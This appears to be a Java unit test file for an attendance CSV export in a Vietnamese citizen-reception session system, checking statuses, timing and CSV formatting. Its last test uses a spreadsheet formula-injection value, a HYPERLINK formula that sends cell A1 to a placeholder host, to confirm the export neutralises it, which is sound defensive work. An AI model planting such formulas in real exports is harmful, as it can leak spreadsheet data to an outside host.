package org.citizenreception.control.attendance;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.InputStream;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneId;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.citizenreception.control.session.SessionState;
import org.citizenreception.control.testing.TestServer;
import org.citizenreception.control.identity.Role;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The attendance statuses and the CSV, on a real database with the test clock: a one-minute
 * session in which one room stays 20 seconds and leaves 30 seconds before the end, one comes late,
 * one stays throughout, one never comes.
 */
class AttendanceCsvTest {
    static final String STAYED = "QN25-BAI-CHAY";
    static final String BRIEF = "QN25-HONG-GAI";
    static final String LATE = "QN25-HA-LAM";
    static final String ABSENT = "QN25-HA-LONG";

    @TempDir
    static Path dir;
    static TestServer t;
    static long id;
    static Instant live;

    @BeforeAll
    static void oneMinuteSession() {
        t = TestServer.start(dir);
        t.createUser("att.host", Role.HOST, null);
        String host = t.token("att.host", TestServer.passwordOf("att.host"));
        id = t.scheduleOnlineSession("Tiếp công dân", "QN-VP", List.of(STAYED, BRIEF, LATE, ABSENT));
        t.clock.advance(Duration.ofMinutes(10));
        live = t.clock.instant();
        assertThat(t.json("POST", "/api/v1/sessions/" + id + "/state", host, Map.of("state", "LIVE")).status()).isEqualTo(200);
        AttendanceRecorder media = t.server.services().domain().attendance();
        String s = String.valueOf(id);
        media.roomConnected(s, STAYED, "ep-1", live.plusSeconds(5));
        media.roomConnected(s, BRIEF, "ep-2", live.plusSeconds(10));
        media.roomDisconnected(s, BRIEF, "ep-2", live.plusSeconds(30), "closed");
        media.roomConnected(s, LATE, "ep-3", live.plusSeconds(25));
        t.clock.advance(Duration.ofSeconds(60));
        assertThat(t.json("POST", "/api/v1/sessions/" + id + "/state", host, Map.of("state", "ENDED")).status()).isEqualTo(200);
    }

    @AfterAll
    static void stop() {
        t.close();
    }

    static JsonNode line(String room) {
        for (JsonNode l : t.get("/api/v1/sessions/" + id + "/attendance", t.adminToken()).json().get("rooms")) {
            if (l.get("roomCode").asText().equals(room)) {
                return l;
            }
        }
        throw new AssertionError("no line for " + room);
    }

    @Test
    void aRoomThereTwentySecondsThatLeftThirtySecondsBeforeTheEndLeftEarlyWithItsRealTime() {
        JsonNode brief = line(BRIEF);
        assertThat(brief.get("status").asText()).isEqualTo("LEFT_EARLY");
        assertThat(brief.get("leftEarly").asBoolean()).isTrue();
        assertThat(brief.get("secondsConnected").asLong()).isEqualTo(20);
        assertThat(brief.get("connected").asText()).isEqualTo("0:20");
        assertThat(brief.get("minutesConnected").asLong()).as("a real presence never rounds to 0").isEqualTo(1);
    }

    @Test
    void aRoomArrivingAfterAQuarterOfAShortSessionIsLateAndOneThereThroughoutIsPresent() {
        assertThat(line(LATE).get("status").asText()).isEqualTo("LATE");
        assertThat(line(LATE).get("connected").asText()).isEqualTo("0:35");
        assertThat(line(STAYED).get("status").asText()).isEqualTo("PRESENT");
        assertThat(line(STAYED).get("connected").asText()).isEqualTo("0:55");
        assertThat(line(ABSENT).get("status").asText()).isEqualTo("ABSENT");
        assertThat(line(ABSENT).get("minutesConnected").asLong()).isZero();
    }

    @Test
    void theToleranceIsTheConfiguredOneForALongSessionAndAQuarterOfAShortOne() {
        Instant from = Instant.parse("2026-11-27T01:00:00Z");
        assertThat(AttendanceService.tolerance(Duration.ofMinutes(10), from, from.plus(Duration.ofHours(3)))).isEqualTo(Duration.ofMinutes(10));
        assertThat(AttendanceService.tolerance(Duration.ofMinutes(10), from, from.plusSeconds(60))).isEqualTo(Duration.ofSeconds(15));
        assertThat(AttendanceService.minutes(29)).isEqualTo(1);
        assertThat(AttendanceService.minutes(89)).isEqualTo(1);
        assertThat(AttendanceService.minutes(90)).isEqualTo(2);
        assertThat(AttendanceService.minutesSeconds(3725)).isEqualTo("62:05");
    }

    @Test
    void theCsvUsesVietnamTimeToTheSecondAndThePagesWordsWithTheCodesBeside() {
        TestServer.Response csv = t.get("/api/v1/sessions/" + id + "/attendance.csv", t.adminToken());
        assertThat(csv.status()).isEqualTo(200);
        List<String> lines = List.of(csv.body().split("\r\n", -1));
        ZoneId vn = ZoneId.of("Asia/Ho_Chi_Minh");
        java.time.format.DateTimeFormatter f = java.time.format.DateTimeFormatter.ofPattern("yyyy-MM-dd HH:mm:ss").withZone(vn);
        String end = f.format(live.plusSeconds(60));
        assertThat(lines).hasSize(6);
        assertThat(lines.get(0)).isEqualTo("\uFEFFroom_code,room_name,trang_thai,status,first_connected,last_disconnected,connected_m_ss,"
                + "minutes_connected,officials,citizens,gaps");
        Map<String, String> byRoom = new HashMap<>();
        for (String l : lines.subList(1, 5)) {
            byRoom.put(l.substring(0, l.indexOf(',')), l);
        }
        assertThat(byRoom.get(STAYED)).isEqualTo(STAYED + ",Phường Bãi Cháy,Có mặt,PRESENT," + f.format(live.plusSeconds(5)) + "," + end
                + ",0:55,1,,,");
        assertThat(byRoom.get(BRIEF)).isEqualTo(BRIEF + ",Phường Hồng Gai,Rời sớm,LEFT_EARLY," + f.format(live.plusSeconds(10)) + ","
                + f.format(live.plusSeconds(30)) + ",0:20,1,,,");
        assertThat(byRoom.get(LATE)).isEqualTo(LATE + ",Phường Hà Lầm,Vào muộn,LATE," + f.format(live.plusSeconds(25)) + "," + end
                + ",0:35,1,,,");
        assertThat(byRoom.get(ABSENT)).isEqualTo(ABSENT + ",Phường Hạ Long,Vắng mặt,ABSENT,,,0:00,0,,,");
        assertThat(lines.get(5)).as("the file ends with the last record's line break").isEmpty();
        assertThat(csv.body()).doesNotContain("Z,").doesNotContain("T0");
    }

    @Test
    void theCsvWordsAreThoseOfTheAttendancePage() throws Exception {
        JsonNode vi;
        try (InputStream in = getClass().getClassLoader().getResourceAsStream("web/i18n/vi.json")) {
            assertThat(in).as("the web client's Vietnamese strings on the classpath").isNotNull();
            vi = new ObjectMapper().readTree(in);
        }
        for (AttendanceStatus s : AttendanceStatus.values()) {
            assertThat(vi.path("attendance.status." + s.name()).asText()).as(s.name()).isEqualTo(s.wordVi());
        }
    }

    /** An official's name typed as a formula opens as text in Excel: a leading apostrophe, never a live cell. */
    @Test
    void aNameStartingLikeAFormulaIsNeutralised() {
        Instant live = Instant.parse("2026-11-27T01:00:00Z");
        AttendanceReport report = new AttendanceReport(7, "Tiếp công dân", SessionState.ENDED, live, live.plusSeconds(3600), 1, 1, 1, 0, 0, 0,
                List.of(new AttendanceReport.Line("R1", "=HYPERLINK(\"http://x.invalid/\"&A1)", AttendanceReport.Presence.PRESENT,
                        AttendanceStatus.PRESENT, false, false, false, live, live.plusSeconds(3600), 3600, 60, "60:00",
                        List.of(new AttendanceReport.Official(1, "@SUM(A1)", "-Chủ tịch", live, "op")), 3, List.of())));

        String line = AttendanceService.csv(report, ZoneId.of("Asia/Ho_Chi_Minh")).lines().toList().get(1);

        assertThat(line).contains("\"'=HYPERLINK(").contains("'@SUM(A1) (-Chủ tịch)").doesNotContain(",=").doesNotContain(",@");
    }
}
